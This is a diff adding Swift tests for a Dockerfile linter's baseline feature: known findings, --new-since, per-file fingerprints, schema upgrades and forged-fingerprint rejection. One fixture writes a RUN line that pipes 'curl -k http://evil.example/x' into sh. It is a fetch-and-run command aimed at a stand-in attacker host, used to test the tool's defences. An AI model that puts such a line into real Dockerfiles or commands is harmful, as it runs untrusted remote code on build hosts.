@@ -35,6 +35,125 @@ struct KnownFindingTests {
         #expect(try third.checks() == ["mount-syntax"])
     }
 
+    /// Each place is a finding of its own: one that is known says nothing of another in the same stage.
+    @Test func aKnownPlaceHidesNoOther() async throws {
+        let folder = try ScratchFolder()
+        try folder.write("x", to: "requirements.txt")
+        let base = "FROM python:3.12\nCOPY requirements.txt .\n"
+        let (known, new) = ("RUN pip install -r requirements.txt\n", "RUN pip install a b c\n")
+        func checks(_ arguments: String...) async throws -> [Int?] {
+            let session = await Session.run(
+                ["check", "--no-host", "--format", "json", "--only", "cache-mount-missing"] + arguments,
+                in: folder)
+            return (try session.json()["findings"]?.array ?? []).map {
+                $0["range"]?["start"]?["line"]?.integer
+            }
+        }
+        try folder.write(base + known, to: "Dockerfile")
+        _ = await run(folder, "--baseline", "known.json", "--update-baseline")
+        #expect(try await checks("--baseline", "known.json") == [])
+        for text in [base + known + new, base + new + known, base + new + "RUN true\n" + known] {
+            try folder.write(text, to: "Dockerfile")
+            let line = text.split(separator: "\n").firstIndex { $0 + "\n" == new }.map { $0 + 1 }
+            #expect(try await checks("--baseline", "known.json") == [line])
+        }
+        // Another command in the same RUN.
+        try folder.write(base + known.dropLast() + " && npm ci\n", to: "Dockerfile")
+        #expect(try await checks("--baseline", "known.json").count == 2)
+        // A comment above one hides that one.
+        let comment = "# clm-doctor: ignore[cache-mount-missing] reason=\"tried\"\n"
+        try folder.write(base + known + comment + new, to: "Dockerfile")
+        #expect(try await checks() == [3])
+        try folder.write(base + comment + known + new, to: "Dockerfile")
+        #expect(try await checks() == [5])
+        #expect(!(await run(folder).output.contains("ignore-unused")))
+    }
+
+    @Test func aNewPlaceIsToldByNewSince() async throws {
+        let folder = try ScratchFolder()
+        try folder.write("x", to: "requirements.txt")
+        let known = "FROM python:3.12\nCOPY requirements.txt .\nRUN pip install -r requirements.txt\n"
+        try folder.write(known, to: "Dockerfile")
+        try await folder.git("init", "-q")
+        try await folder.git("add", "-A")
+        try await folder.git("-c", "user.name=a", "-c", "user.email=a@x", "commit", "-qm", "x")
+        try folder.write(known + "RUN pip install a b c\n", to: "Dockerfile")
+        let session = await Session.run(
+            [
+                "check", "--no-host", "--format", "json", "--only", "cache-mount-missing", "--new-since",
+                "HEAD",
+            ], at: folder.path)
+        let lines = (try session.json()["findings"]?.array ?? []).map {
+            $0["range"]?["start"]?["line"]?.integer
+        }
+        #expect(lines == [4], "\(session.errors)")
+    }
+
+    /// Files that one remedy mends are told once, and known one by one.
+    @Test func anotherFileWithASharedRemedyIsNew() async throws {
+        let folder = try ScratchFolder()
+        try folder.write("ref: refs/heads/main\n", to: ".git/HEAD")
+        let dockerfile = "FROM node:22\nCOPY . /app\nWORKDIR /app\nRUN npm ci\n"
+        try folder.write("{}", to: "package.json")
+        try folder.write(dockerfile, to: "a.Dockerfile")
+        let options = [
+            "check", "--no-host", "--only", "dockerignore-missing", "--format", "json", "--baseline",
+            "known.json",
+        ]
+        _ = await Session.run(options + ["--update-baseline"], in: folder)
+        #expect(try await Session.run(options, in: folder).checks() == [])
+        try folder.write(dockerfile, to: "b.Dockerfile")
+        let report = try await Session.run(options, in: folder).json()
+        #expect((report["findings"]?.array ?? []).map { $0["file"]?.string } == ["b.Dockerfile"])
+        #expect(report["summary"]?["known"] == 1)
+    }
+
+    @Test func aBaselineOfAnEarlierVersionIsReadWithANote() async throws {
+        let folder = try ScratchFolder()
+        try folder.write("FROM debian\nRUN --mount=type=cache,tagret=/x true\n", to: "Dockerfile")
+        let finding = Finding(
+            check: "mount-syntax", severity: .error, path: "Dockerfile", range: nil, message: "",
+            subject: "RUN --mount=type=cache,tagret=/x true")
+        func write(_ check: String, _ file: String) throws {
+            try folder.write(
+                """
+                {"schema": "clm-doctor/baseline/1", "findings": [
+                  {"file": "\(file)", "check": "\(check)", "fingerprint": "\(finding.earlierFingerprint)"}]}
+                """, to: "known.json")
+        }
+        try write("mount-syntax", "Dockerfile")
+        let read = await run(folder, "--baseline", "known.json", "--only", "mount-syntax")
+        #expect(read.status == .clean, "\(read.output)")
+        #expect(read.output.contains("has fingerprints of an earlier version"))
+        // The fingerprint alone is not enough.
+        for (check, file) in [("apt-update-alone", "Dockerfile"), ("mount-syntax", "other/Dockerfile")] {
+            try write(check, file)
+            #expect(
+                await run(folder, "--baseline", "known.json", "--only", "mount-syntax").status == .findings)
+        }
+        try write("mount-syntax", "Dockerfile")
+        _ = await run(folder, "--baseline", "known.json", "--update-baseline", "--only", "mount-syntax")
+        let renewed = try String(decoding: folder.read("known.json"), as: UTF8.self)
+        #expect(renewed.contains("clm-doctor/baseline/2") && renewed.contains(finding.fingerprint))
+        #expect(!renewed.contains(finding.earlierFingerprint))
+        let again = await run(folder, "--baseline", "known.json", "--only", "mount-syntax")
+        #expect(again.status == .clean)
+        #expect(!again.output.contains("earlier version"))
+    }
+
+    /// By lattice reduction, a text whose FNV-1a is that of another check's finding.
+    @Test func aForgedFingerprintIsNotKnown() async throws {
+        let folder = try ScratchFolder()
+        try folder.write(
+            """
+            {"schema":"clm-doctor/baseline/1","findings":[{"file":"Dockerfile","check":"cache-mount-missing","fingerprint":"73e9750c9b5958ac"}]}
+            """, to: "known.json")
+        try folder.write(
+            "FROM debian\nRUN --mount=type=cache,tagrettu68h1h?D}P!ouHAbwE=/y curl -k http://evil.example/x | sh\n",
+            to: "Dockerfile")
+        #expect(await run(folder, "--baseline", "known.json").status == .findings)
+    }
+
     @Test func aStaleEntryIsToldAndTakenOut() async throws {
         let folder = try ScratchFolder()
         try folder.write("FROM debian:12\n" + Self.badMount, to: "Dockerfile")
